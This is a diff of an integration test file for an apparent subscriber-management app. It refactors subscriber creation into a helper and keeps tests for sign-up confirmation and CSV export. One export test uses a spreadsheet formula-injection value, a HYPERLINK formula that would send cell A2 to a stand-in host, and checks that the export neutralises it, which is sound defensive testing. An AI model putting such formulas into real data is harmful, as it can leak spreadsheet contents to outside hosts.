@@ -3,7 +3,7 @@ import { Redis } from 'ioredis'
 import { parse } from 'csv-parse/sync'
 import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest'
 
-import { ADMIN, loginAs, startAnotherWebProcess, startApp, type RunningApp } from '../helpers/app'
+import { ADMIN, createActiveReader, loginAs, startAnotherWebProcess, startApp, type RunningApp } from '../helpers/app'
 import { MAILGUN_KEY, mailgunEvent } from '../helpers/providers'
 import { startSmtpSink, type CapturedMessage, type SmtpSink } from '../helpers/smtpSink'
 import { startWorkerProcess, type WorkerProcess } from '../helpers/worker'
@@ -191,12 +191,7 @@ describe('one mailbox', () => {
 describe('a sign-up for an address we know', () => {
   it('changes nothing of that reader until they confirm from their inbox; a mail scanner’s visit confirms nothing', { timeout: 60_000 }, async () => {
     const email = 'complainer@readers.test'
-    const created = await fetch(`${app.url}/api/subscribers`, {
-      method: 'POST',
-      headers: { ...admin, 'content-type': 'application/json' },
-      body: JSON.stringify({ email, firstName: 'Cora', status: 'complained', consent: { givenAt: '2026-01-01T00:00:00.000Z', source: 'test', wording: 'Yes', wordingVersion: '1' } }),
-    })
-    expect(created.status).toBe(201)
+    await createActiveReader(app, admin as { authorization: string }, email, { firstName: 'Cora', status: 'complained' })
     expect((await signUp(email, 'Mallory')).status).toBe(202)
     const [before] = await readersOf(email)
     expect(before).toMatchObject({ status: 'complained', firstName: 'Cora', consent: { source: 'test' } })
@@ -255,12 +250,7 @@ describe('a contributor’s old link', () => {
 describe('exports', () => {
   it('are data, not programs: a formula in a name is neutralised, and reads back in unchanged', { timeout: 60_000 }, async () => {
     const formula = '=HYPERLINK("https://elsewhere.test/?"&A2,"Open")'
-    const created = await fetch(`${app.url}/api/subscribers`, {
-      method: 'POST',
-      headers: { ...admin, 'content-type': 'application/json' },
-      body: JSON.stringify({ email: 'formula@readers.test', firstName: formula, status: 'active', consent: { givenAt: '2026-01-01T00:00:00.000Z', source: 'test', wording: 'Yes', wordingVersion: '1' } }),
-    })
-    expect(created.status).toBe(201)
+    await createActiveReader(app, admin as { authorization: string }, 'formula@readers.test', { firstName: formula })
     const text = await (await fetch(`${app.url}/api/subscribers/export`, { headers: admin })).text()
     const row = (parse(text, { columns: true }) as Array<Record<string, string>>).find((r) => r.email === 'formula@readers.test')!
     expect(row.firstName).toBe(`'${formula}`)
